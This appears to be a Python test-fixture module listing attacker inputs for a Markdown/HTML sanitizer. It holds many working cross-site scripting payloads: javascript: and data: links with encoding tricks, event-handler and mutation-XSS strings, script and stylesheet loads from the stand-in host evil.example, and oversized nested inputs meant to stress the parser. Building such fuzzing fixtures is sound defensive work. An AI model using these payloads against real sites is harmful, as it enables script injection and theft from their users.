"""Texts of an attacker: HTML, and Markdown with dangerous or malformed links."""

from __future__ import annotations

ADDRESSES = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "java&#10;script:alert(1)",
    "&#106;avascript:alert(1)",
    "&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)",
    "javascript&colon;alert(1)",
    "javascript&#58;alert(1)",
    "\\javascript:alert(1)",
    "%6Aavascript:alert(1)",
    "\u0001javascript:alert(1)",
    "\u00a0javascript:alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+",
    "data:image/png;base64,iVBORw0KGgo=",
    "file:///etc/passwd",
    "blob:https://example.com/1",
    "about:blank",
    "feed:javascript:alert(1)",
    "view-source:javascript:alert(1)",
    'https://x/" onmouseover="alert(1)',
    "https://x/' onmouseover='alert(1)",
    "https://x/><script>alert(1)</script>",
]
PLACES = [
    "[x]({})",
    "[x](<{}>)",
    "![x]({})",
    "<{}>",
    "{}",
    "[x][r]\n\n[r]: {}",
    '[x]\n\n[x]: <{}> "t"',
    '[x](/a "{}")',
    "[![x]({})]({})",
    "```{}\ncode\n```",
    "`{}`",
    "| {} |\n|---|\n| {} |",
]
HTML = r'''
<script>alert(1)</script>
<SCRIPT SRC=//evil.example/x.js></SCRIPT>
<scr<script>ipt>alert(1)</scr</script>ipt>
<script/x>alert(1)</script >
<<script>alert(1);//<</script>
<img src=x onerror=alert(1)>
<img src="x" onerror="alert(1)" style="position:fixed">
<img """><script>alert(1)</script>">
<svg onload=alert(1)>
<svg><script>alert(1)</script></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>
<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>
<math href="javascript:alert(1)">x</math>
<iframe src="javascript:alert(1)"></iframe>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<object data="javascript:alert(1)"></object>
<embed src="javascript:alert(1)">
<body onload=alert(1)>
<input autofocus onfocus=alert(1)>
<details open ontoggle=alert(1)>
<video><source onerror=alert(1)>
<audio src=x onerror=alert(1)>
<marquee onstart=alert(1)>
<a href="javascript:alert(1)">x</a>
<a href="x" onclick="alert(1)">x</a>
<a style="color:red;background:url(javascript:alert(1))">x</a>
<p style="color: red">x</p>
<style>@import "//evil.example/x.css";</style>
<link rel=stylesheet href="//evil.example/x.css">
<meta http-equiv=refresh content="0;url=javascript:alert(1)">
<base href="//evil.example/">
<form action="//evil.example/"><button>x</button></form>
<button formaction="javascript:alert(1)">x</button>
<!--><script>alert(1)</script>-->
<!-- <img src=x onerror=alert(1)> -->
<![CDATA[<script>alert(1)</script>]]>
<?php echo "<script>alert(1)</script>" ?>
<!DOCTYPE x [<!ENTITY y "<script>">]>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<textarea><script>alert(1)</script></textarea>
<title><img src=x onerror=alert(1)></title>
<template><script>alert(1)</script></template>
<select><style></select><img src=x onerror=alert(1)></style>
<xmp><script>alert(1)</script></xmp>
<plaintext><script>alert(1)
<pre tabindex=0 onfocus=alert(1)>x</pre>
<span class="btn btn-danger" onclick=alert(1)>x</span>
<code class="hl-k btn">x</code>
<div id="content" class="alert">x</div>
<b onmouseover=alert(1)>x</b>
<b
onmouseover=alert(1)>x</b>
<b/onmouseover=alert(1)>x</b>
<x-element onclick=alert(1)>x</x-element>
&lt;script&gt;alert(1)&lt;/script&gt;
&amp;lt;script&amp;gt;alert(1)
*<script>*alert(1)*</script>*
[<script>alert(1)</script>](/x)
[x](/x "</a><script>alert(1)</script>")
[x](/x "<pre><script>alert(1)</script>")
![<img src=x onerror=alert(1)>](/x "<pre>")
![](/x "' onerror='alert(1)")
<https://x/"onmouseover="alert(1)>
https://x/"onmouseover="alert(1)"
www.x"onmouseover="alert(1)
a@b.co"onmouseover="alert(1)
# <script>alert(1)</script>
> <script>alert(1)</script>
- <script>alert(1)</script>
`<script>alert(1)</script>`
'''

PAYLOADS = [
    *(place.replace("{}", address) for place in PLACES for address in ADDRESSES),
    *HTML.strip().split("\n"),
    HTML,
    "```html\n" + HTML + "```",
    '```python hl-k" onclick="alert(1)\n<script>alert(1)</script>\n```',
    "~~~</code></pre><script>alert(1)</script>\nx\n~~~",
    '```language-x" onclick="alert(1)\nx\n```',
    "    <script>alert(1)</script>",
]

LONG = 20_000  # the longest post


def repeated(pattern: str) -> str:
    """Return ``pattern``, repeated up to the length of the longest post."""
    return (pattern * (LONG // len(pattern) + 1))[:LONG]


REPEATED = [
    *"[ ] * _ ` ~ < > & \\ | \" ( ) 🥐".split(),
    "![", "[a](", "](", "[a](b)", "[a][b]", "[a]: b\n", "[a]([b](", "> ", "- ", "1. ", ">- ",
    "* * ", "*a **b ", "a**b_c*", "~~a", "`a``b```c````", "www.", "http://", "://", "a@", "+@",
    "https://a.b/", "a@b.co ", "<a@", "<http:", "http://a.b/(((", "http://a.b/)", "http://a..",
    "a.co", "&amp;", "&#x", "<a ", "<!--", "<![CDATA[", "```\n", "# a\n", "a\n=\n", "---\n",
    "|a|b\n", "\n", "\t", "a",
]  # fmt: skip
SHAPED = {
    "backticks of every length": "".join("`" * i + "a" for i in range(1, 360)),
    "lists in lists": "\n".join("  " * i + "- a" for i in range(250)),
    "quotes in quotes": "\n".join(">" * i + " a" for i in range(350)),
    "a table of short rows": "|" + "a|" * 30 + "\n|" + "-|" * 30 + "\n" + "a\n" * 10_000,
    "a wide table": "a|" * 3_400 + "\n" + "-|" * 3_400 + "\n" + "|\n" * 3_400,
    "brackets in brackets": "[" * 10_000 + "a" + "]" * 10_000,
    "pictures in pictures": "![" * 4_000 + "a" + "](b)" * 3_000,
    "stars around": "*" * 10_000 + "a" + "*" * 10_000,
    "a long address": "http://example.com/" + "a" * LONG,
    "a long host": "http://" + "a." * 10_000 + "com",
    "a long title": '[a](b "' + "x" * LONG + '")',
    "parentheses in an address": "[a](" + "(" * 10_000 + ")" * 10_000 + ")",
    "one long address referred to often": "[a]: /" + "x" * 17_000 + "\n\n" + "[a]" * 1000,
    "many references": "".join(f"[{i}]: x\n" for i in range(1000)) + "[1]" * 3000,
}
